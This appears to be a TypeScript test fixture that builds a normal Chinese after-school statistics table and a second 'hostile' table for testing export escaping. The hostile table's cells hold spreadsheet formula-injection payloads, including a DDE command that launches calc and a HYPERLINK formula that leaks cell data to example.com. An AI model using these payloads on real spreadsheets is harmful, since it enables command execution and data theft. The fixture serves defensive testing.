import { createNumberCell } from '../table/create-number-cell';
import { createTable } from '../table/create-table';
import { createTextCell } from '../table/create-text-cell';
import type { Table } from '../table/table';

/** A small table by hand: text, a percent column, a count, a status, a negative number and an empty cell. */
export function smallTable(): Table {
  return createTable({
    id: 'after-school',
    caption: '课后服务参与情况',
    columns: [
      { id: 'school', label: '学校' },
      { id: 'rate', label: '参与率', unit: '%', kind: 'percent' },
      { id: 'students', label: '在校生', unit: '人', kind: 'number' },
      { id: 'change', label: '增减', kind: 'number' },
      { id: 'status', label: '是否达标', kind: 'status' },
    ],
    rows: [
      [
        '城关小学',
        createNumberCell({ value: '92.8766', decimals: 2 }),
        createNumberCell({ value: 1860, decimals: 0 }),
        createNumberCell({ value: '-3.5', decimals: 1 }),
        createTextCell({ text: '✓ 达标', status: 'passed' }),
      ],
      [
        '西山乡后沟教学点',
        null,
        createNumberCell({ value: 32, decimals: 0 }),
        createNumberCell({ value: '0', decimals: 1 }),
        createTextCell({ text: '✗ 未达标', status: 'failed' }),
      ],
      {
        cells: [
          '全县',
          createNumberCell({ value: '91.5', decimals: 2 }),
          createNumberCell({ value: 1892, decimals: 0 }),
          createNumberCell({ value: '-3.44', decimals: 1 }),
          '',
        ],
        summary: true,
      },
    ],
    notes: ['教学点未开展课后服务。'],
  });
}

/** A table whose text cells try formula injection, with a negative number that must stay a number. */
export function hostileTable(): Table {
  return createTable({
    id: 'hostile',
    caption: "=cmd|' /C calc'!A0",
    columns: [
      { id: 'name', label: '@学校' },
      { id: 'note', label: '说明' },
      { id: 'change', label: '-增减', kind: 'number' },
    ],
    rows: [
      ['=HYPERLINK("http://example.com/?leak="&A1,"点击")', '+1+2', createNumberCell({ value: '-12.5', decimals: 1 })],
      ['@SUM(A1:A2)', '-2+3', createNumberCell({ value: '-7', decimals: 0 })],
      ['\t=1+1', '\r=1+1', createNumberCell({ value: '3', decimals: 0 })],
      ['＝1+1', 'a=b (safe)', createNumberCell({ value: '0.5', decimals: 2 })],
    ],
    notes: ['-注释以减号开头'],
  });
}
